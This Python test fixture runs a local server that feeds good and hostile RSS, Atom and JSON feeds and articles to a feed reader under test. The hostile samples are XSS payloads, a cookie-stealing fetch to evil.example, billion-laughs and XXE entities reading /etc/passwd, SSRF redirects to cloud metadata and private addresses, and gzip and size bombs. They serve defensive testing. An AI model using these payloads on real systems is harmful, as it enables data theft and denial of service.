"""A local HTTP server on 127.0.0.1 serving good and hostile feeds, and a fake search backend.

Every request is recorded (path and headers) so tests can assert what was, and what was not,
asked for. Good feeds answer conditional requests with 304.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import threading
import time
from email.utils import formatdate
from functools import lru_cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def rss(title: str, items: list[tuple[str, str, str]], *, extra: str = "") -> bytes:
    """Build an RSS 2.0 document from (title, link, html description) triples."""
    body = "".join(
        f"<item><title>{t}</title><link>{link}</link>"
        f"<pubDate>Mon, 23 Nov 2026 0{i % 10}:00:00 GMT</pubDate>"
        f"<description><![CDATA[{d}]]></description></item>"
        for i, (t, link, d) in enumerate(items)
    )
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{extra}<rss version="2.0"><channel>'
        f"<title>{title}</title>{body}</channel></rss>"
    ).encode()


GOOD_RSS = rss(
    "Good RSS",
    [
        (
            "Alpha model released",
            "https://news.example/alpha?utm_source=feed",
            "<p>The alpha model reads long documents quickly.</p>",
        ),
        (
            "Beta benchmark results",
            "https://news.example/beta",
            "<p>The beta benchmark compares small local models.</p>",
        ),
    ],
)

GOOD_ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Good Atom</title>
<entry><title>Gamma runtime adds caching</title><link href="/gamma"/>
<updated>2026-11-22T10:00:00Z</updated><summary>Gamma caches prompt prefixes.</summary></entry>
</feed>"""

GOOD_JSON = json.dumps(
    {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "Good JSON",
        "items": [
            {
                "id": "1",
                "url": "https://json.example/delta",
                "title": "Delta quantisation",
                "content_html": "<p>Delta explores <em>4-bit</em> builds.</p>",
                "date_published": "2026-11-21T08:00:00Z",
            }
        ],
    }
).encode()

MALFORMED = (
    b'<?xml version="1.0"?><rss version="2.0"><channel><title>Broken</title>'
    b"<item><title>Survivor story</title><link>https://broken.example/ok</link>"
    b"<description>Kept although the feed breaks later.</description></item>"
    b"<item><title>Cut <b>off</title><link>https://broken.example/cut</link>"
    b"<description>unterminated & stray"
)

SCRIPTED = rss(
    "Payloads",
    [
        (
            "Scripted <script>alert('t')</script>story",
            "https://pay.example/1",
            '<p onclick="steal()">Visible text.</p><script>document.cookie</script>'
            "<style>p{}</style><a href=\"javascript:alert('x')\">link</a>"
            '<img src=x onerror="alert(1)"><iframe src="https://evil.example"></iframe>',
        ),
        ("Bad link", "javascript:alert('item-link')", "An item whose link is a script."),
        (
            "Plain text scheme",
            "https://pay.example/2",
            "Copy this: javascript:alert(document.domain) into the address bar.",
        ),
    ],
)

ENTITY_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<rss version="2.0"><channel><title>Laughs</title><item><title>&d;</title>
<link>https://laughs.example/1</link></item></channel></rss>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>XXE</title><item><title>&xxe;</title>
<link>https://xxe.example/1</link></item></channel></rss>"""

HTML_PAGE = b"""<!DOCTYPE html><html><head><title>Not a feed</title>
<script>alert(1)</script></head><body><p>Welcome to our homepage.</p></body></html>"""

ARTICLE = """<!DOCTYPE html><html><head><title>{title}</title><script>alert('page')</script>
</head><body><nav>Home | About | Contact</nav><article><h1>{title}</h1>
<p>{body}</p><p>The study ran for twelve weeks on forty volunteer machines and measured
both speed and accuracy of every model under identical prompts.</p>
<p>Researchers found that careful prompt construction mattered more than raw model size for
the summarisation tasks they examined, and they published all of their data.</p>
<script>fetch('https://evil.example/'+document.cookie)</script></article>
<footer>Copyright notice</footer></body></html>"""


@lru_cache(maxsize=1)
def gzip_bomb() -> bytes:
    """Return ~40 KB of gzip that inflates to 40 MB."""
    return gzip.compress(b"<" + b" " * (40 * 1024 * 1024), compresslevel=9)


class FeedServer:
    """ThreadingHTTPServer on 127.0.0.1:<free port>; use as a context manager."""

    def __init__(self, delay: float = 0.0):
        self.delay = delay
        self.requests: list[dict] = []
        self.in_flight = 0
        self.max_in_flight = 0
        self.extra: dict[str, tuple[int, dict, bytes]] = {}  # path -> (status, headers, body)
        self._lock = threading.Lock()
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._thread = threading.Thread(
            target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        )

    def __enter__(self) -> FeedServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()

    def paths(self) -> list[str]:
        return [r["path"] for r in self.requests]

    def _handler(self):
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:  # keep test output clean
                pass

            def do_GET(self) -> None:
                with server._lock:
                    server.requests.append({"path": self.path, "headers": dict(self.headers)})
                    server.in_flight += 1
                    server.max_in_flight = max(server.max_in_flight, server.in_flight)
                try:
                    if server.delay:
                        time.sleep(server.delay)
                    self.route()
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up (a size cap or a timeout): that is the point
                finally:
                    with server._lock:
                        server.in_flight -= 1

            def send(self, status: int, body: bytes = b"", headers: dict | None = None):
                self.send_response(status)
                for key, value in (headers or {}).items():
                    self.send_header(key, value)
                if "Content-Length" not in (headers or {}):
                    self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def cached(self, body: bytes, ctype: str) -> None:
                etag = '"' + hashlib.sha1(body).hexdigest()[:12] + '"'
                if self.headers.get("If-None-Match") == etag:
                    self.send(304, headers={"ETag": etag})
                    return
                self.send(
                    200,
                    body,
                    {"Content-Type": ctype, "ETag": etag, "Last-Modified": formatdate(usegmt=True)},
                )

            def route(self) -> None:
                path = self.path.split("?", 1)[0]
                if path in server.extra:
                    status, headers, body = server.extra[path]
                    if path.endswith(".html") or headers.get("ETag"):
                        return self.cached(body, headers.get("Content-Type", "text/html"))
                    return self.send(status, body, headers)
                feeds = {
                    "/good.xml": (GOOD_RSS, "application/rss+xml"),
                    "/atom.xml": (GOOD_ATOM, "application/atom+xml"),
                    "/feed.json": (GOOD_JSON, "application/feed+json"),
                }
                if path in feeds:
                    return self.cached(*feeds[path])
                if path.startswith("/article/"):
                    n = path.rsplit("/", 1)[-1].split(".")[0]
                    body = ARTICLE.format(
                        title=f"Article {n} on local model speed",
                        body=f"Article {n} explains local model speed.",
                    )
                    return self.cached(body.encode(), "text/html; charset=utf-8")
                simple = {
                    "/malformed.xml": MALFORMED,
                    "/script.xml": SCRIPTED,
                    "/entities.xml": ENTITY_BOMB,
                    "/xxe.xml": EXTERNAL_ENTITY,
                }
                if path in simple:
                    return self.send(200, simple[path], {"Content-Type": "application/xml"})
                if path == "/page.html":
                    return self.send(200, HTML_PAGE, {"Content-Type": "text/html"})
                if path == "/500":
                    return self.send(500, b"internal error")
                if path == "/loop-a":
                    return self.send(302, headers={"Location": "/loop-b"})
                if path == "/loop-b":
                    return self.send(302, headers={"Location": "/loop-a"})
                if path.startswith("/hop/"):  # /hop/N redirects N times, then the good feed
                    n = int(path.rsplit("/", 1)[-1])
                    target = f"/hop/{n - 1}" if n > 1 else "/good.xml"
                    return self.send(301, headers={"Location": target})
                redirects = {
                    "/to-metadata": "http://169.254.169.254/latest/meta-data/",
                    "/to-private": "http://10.0.0.1/feed.xml",
                    "/to-file": "file:///etc/passwd",
                }
                if path in redirects:
                    return self.send(302, headers={"Location": redirects[path]})
                if path == "/huge.xml":
                    return self.stream_huge()
                if path == "/bomb.xml":
                    bomb = gzip_bomb()
                    return self.send(
                        200,
                        bomb,
                        {"Content-Type": "application/rss+xml", "Content-Encoding": "gzip"},
                    )
                if path == "/slow.xml":
                    return self.drip()
                self.send(404, b"not found")

            def stream_huge(self) -> None:
                # 30 MB with no Content-Length: only a cap while streaming can stop it.
                self.send_response(200)
                self.send_header("Content-Type", "application/rss+xml")
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write(
                    b'<?xml version="1.0"?><rss version="2.0"><channel><title>Huge</title>'
                )
                chunk = (
                    b"<item><title>x</title><link>https://huge.example/x</link>"
                    b"<description>" + b"y" * 4000 + b"</description></item>"
                )
                for _ in range(30 * 1024 * 1024 // len(chunk)):
                    self.wfile.write(chunk)
                self.close_connection = True

            def drip(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "application/rss+xml")
                self.send_header("Connection", "close")
                self.end_headers()
                deadline = time.monotonic() + 20
                while time.monotonic() < deadline:
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.1)
                self.close_connection = True

        return Handler


class RateLimitingSearch:
    """A fake search backend: rate-limits like DuckDuckGo, then answers.

    limits: backend -> how many calls are answered with a rate limit first (-1: always).
    fail: backends that fail with another error.
    """

    def __init__(
        self,
        limits: dict[str, int] | None = None,
        fail: set[str] | None = None,
        results: list[dict] | None = None,
    ):
        self.limits = dict(limits or {})
        self.fail = set(fail or ())
        self.calls: list[tuple[str, str]] = []
        self.results = (
            results
            if results is not None
            else [
                {
                    "title": "Search hit about local models",
                    "href": "https://search.example/hit",
                    "body": "Local models <b>keep</b> getting faster.<script>x()</script>",
                },
            ]
        )

    def __call__(self, query: str, backend: str, max_results: int) -> list[dict]:
        from ddgs.exceptions import DDGSException, RatelimitException

        self.calls.append((query, backend))
        if backend in self.fail:
            raise DDGSException(f"{backend}: connection refused")
        left = self.limits.get(backend, 0)
        if left != 0:
            self.limits[backend] = left - 1 if left > 0 else left
            raise RatelimitException("https://html.duckduckgo.com/html 202 Ratelimit")
        return self.results[:max_results]
